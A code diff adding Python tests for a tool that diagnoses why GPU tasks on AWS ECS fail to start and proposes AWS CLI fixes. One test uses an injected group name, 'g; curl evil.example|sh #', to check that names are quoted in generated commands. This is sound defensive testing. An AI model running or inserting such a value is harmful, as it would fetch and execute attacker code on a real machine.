@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 from gpu_constructs.cli.program import main
 from gpu_constructs.errors import GpuConstructsError
-from gpu_constructs.live import Layer, answers, parsed, subject_called, verify, why
+from gpu_constructs.live import Cause, Layer, answers, parsed, subject_called, verify, why
 from tests.examples import times
 
 from .given import Answer, cluster
@@ -278,3 +278,81 @@ def test_an_example_of_aws_that_is_spoilt_is_no_exception(example: Answer, path:
         why(found, subject_called(found, "ecs-simple-service"))
     with suppress(GpuConstructsError):
         why(found, subject_called(found, "chat"))
+
+
+def causes_of(answer: Answer, name: str = "chat") -> list[Cause]:
+    found = answers([answer])
+    return list(why(found, subject_called(found, name), region="us-east-1").causes)
+
+
+def scaled(answer: Answer, **more: Any) -> Answer:
+    """The answer with more of its service."""
+    return {**answer, "services": [{**answer["services"][0], **more}]}
+
+
+def without(answer: Answer, *names: str) -> Answer:
+    return {key: value for key, value in answer.items() if key not in names}
+
+
+def test_no_cause_is_made_up_where_the_capacity_providers_were_not_described() -> None:
+    answer = without(cluster(), "capacityProviders")
+    assert [each.layer for each in causes_of(answer)] == [Layer.BUSY]
+    eight = of_gpus("8")
+    answer = without(cluster(definition=eight), "capacityProviders", "AutoScalingGroups")
+    assert [each.layer for each in causes_of(answer)] == [Layer.NEVER_FITS]
+
+
+def test_a_provider_that_the_cluster_lacks_is_added_to_those_that_it_has() -> None:
+    answer = cluster()
+    named = {
+        **answer,
+        "clusters": [{"clusterName": "my demo", "capacityProviders": ["a", "b"]}],
+        "capacityProviders": [],
+    }
+    cause = causes_of(named)[0]
+    assert cause.text == "the cluster has no such capacity provider; it has a and b"
+    assert cause.fix == (
+        "aws ecs put-cluster-capacity-providers --cluster 'my demo' --capacity-providers a b gpu "
+        "--default-capacity-provider-strategy '[]', which replaces the whole list, or another provider in the strategy"
+    )
+
+
+def test_names_in_commands_are_quoted() -> None:
+    name = "g; curl evil.example|sh #"
+    answer = json.loads(json.dumps(cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]})))
+    text = json.dumps(answer).replace("gpu-group", name)
+    assert causes_of(json.loads(text))[0].fix.endswith(" --auto-scaling-group-name 'g; curl evil.example|sh #'")
+
+
+def test_a_maximum_is_raised_to_what_the_missing_tasks_take() -> None:
+    four = tuple(f"GPU-{number}" for number in range(4))
+    (cause, *_) = causes_of(scaled(cluster(gpus=four, group=FULL), desiredCount=10, runningCount=4))
+    assert cause.fix.endswith("which is max_instances of the capacity, to 3 for 6 more tasks, or stop a task")
+
+
+def test_a_maximum_that_is_not_described_is_not_reached() -> None:
+    (_, cause) = causes_of(cluster(group={"MaxSize": None}))
+    assert cause.text == "gpu-group has 1 host; how many it may have is not described"
+
+
+def test_several_hosts_are_said_in_one_sentence() -> None:
+    host = cluster()["containerInstances"][0]
+    hosts = [{**host, "ec2InstanceId": f"i-{number}"} for number in range(5)]
+    answer = {**cluster(group=FULL), "containerInstances": hosts}
+    some = "i-0 (g6.xlarge), i-1 (g6.xlarge), i-2 (g6.xlarge)"
+    said = f"5 of 5 hosts: each of {some} and 2 more is busy: 1 GPU asked, 0 free"
+    assert causes_of(answer)[1].text == said
+
+
+def test_without_a_strategy_hosts_are_counted_for_all_tasks_that_are_missing() -> None:
+    answer = scaled(cluster(), capacityProviderStrategy=[], launchType="EC2", desiredCount=2)
+    cause = causes_of(answer)[0]
+    assert cause.text == "it has launch type EC2 and no capacity provider strategy, so that nothing starts hosts for it"
+    assert cause.fix == "a capacity provider strategy with managed scaling, or 2 more hosts for 2 more tasks"
+    cause = causes_of({**answer, "containerInstances": []})[0]
+    assert (cause.text.endswith("; the cluster has no hosts"), "or hosts for 2 more tasks" in cause.fix) == (True, True)
+
+
+def test_larger_types_of_the_own_family_come_first_then_the_cheapest_that_are_current() -> None:
+    (cause,) = causes_of(cluster(definition=of_gpus("8")))
+    assert cause.fix.startswith("launch g6.48xlarge, g4dn.metal or p4d.24xlarge, or ")
